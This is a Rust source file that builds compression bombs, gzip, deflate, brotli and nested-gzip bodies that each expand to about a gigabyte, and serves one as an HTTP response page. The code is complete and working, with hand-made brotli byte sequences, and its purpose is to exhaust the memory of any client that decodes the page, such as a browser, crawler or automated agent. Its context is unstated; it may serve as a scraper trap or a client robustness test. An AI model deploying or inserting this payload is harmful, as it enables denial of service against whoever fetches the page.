//! Bodies that are small on the wire and large after it.
//!
//! Each coding lets a piece be followed by the same piece again, so that a compressed mebibyte of zeros makes a gigabyte
//! without compressing one.

use std::io::{self, Write};
use std::sync::OnceLock;

use flate2::write::GzEncoder;
use flate2::{Compress, Compression, FlushCompress};

use super::wire::Wire;

const MEBIBYTE: usize = 1024 * 1024;
/// How many mebibytes a bomb has.
const MEBIBYTES: usize = 1024;

/// How a bomb is compressed.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Coding {
    /// gzip, whose members may follow each other (RFC 1952, section 2.2).
    Gzip,
    /// zlib, whose blocks end at a byte where they are flushed (RFC 1950, RFC 1951).
    Deflate,
    /// brotli (RFC 7932).
    Brotli,
    /// gzip, four times, and the field says five: small enough to be made as a whole.
    Nested,
}

/// Says a page that is a bomb.
pub(super) fn drop_on(wire: &mut Wire<'_>, coding: Coding) -> io::Result<()> {
    let bomb = coding.bomb()?;
    let (name, length) = (coding.name(), bomb.len());
    wire.say(format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: {name}\r\n\
         Content-Length: {length}\r\n\r\n"
    ))?;
    wire.say(bomb)
}

impl Coding {
    /// The value of `Content-Encoding`.
    fn name(self) -> &'static str {
        match self {
            Self::Gzip => "gzip",
            Self::Deflate => "deflate",
            Self::Brotli => "br",
            Self::Nested => "gzip, gzip, gzip, gzip, gzip",
        }
    }

    /// Made once for all.
    fn bomb(self) -> io::Result<&'static [u8]> {
        static MADE: [OnceLock<Vec<u8>>; 4] = [const { OnceLock::new() }; 4];
        let place = &MADE[self as usize];
        if let Some(bomb) = place.get() {
            return Ok(bomb);
        }
        let bomb = match self {
            Self::Gzip => gzip(&vec![0; MEBIBYTE])?.repeat(MEBIBYTES),
            Self::Deflate => deflate()?,
            Self::Brotli => brotli(),
            Self::Nested => (0..4).try_fold(vec![0; 8 * MEBIBYTE], |bytes, _| gzip(&bytes))?,
        };
        Ok(place.get_or_init(|| bomb))
    }
}

fn gzip(bytes: &[u8]) -> io::Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes)?;
    encoder.finish()
}

fn deflate() -> io::Result<Vec<u8>> {
    let mut piece = Vec::with_capacity(MEBIBYTE);
    let mut encoder = Compress::new(Compression::best(), false);
    encoder
        .compress_vec(&vec![0; MEBIBYTE], &mut piece, FlushCompress::Sync)
        .map_err(io::Error::other)?;
    // The head of zlib for the largest window, the pieces, and an empty last block. A reader that comes as far as the
    // sum, which is missing, has read too much.
    let mut bomb = vec![0x78, 0xda];
    bomb.extend(piece.repeat(MEBIBYTES));
    bomb.extend([3, 0]);
    Ok(bomb)
}

/// What an encoder makes of zeros with a window of four mebibytes, flushed after each mebibyte: the first, each further
/// one, and the end.
fn brotli() -> Vec<u8> {
    let first = b"\xab\xff\xff\x07\x40\x02\x20\x1e\x0b\x24\xf7\xfe\xc1\x00";
    let further = b"\xfa\xff\x7f\x00\x24\x00\xe2\xb0\x00\x74\xef\x1f\x0c";
    [&first[..], &further.repeat(MEBIBYTES - 1), &[3]].concat()
}
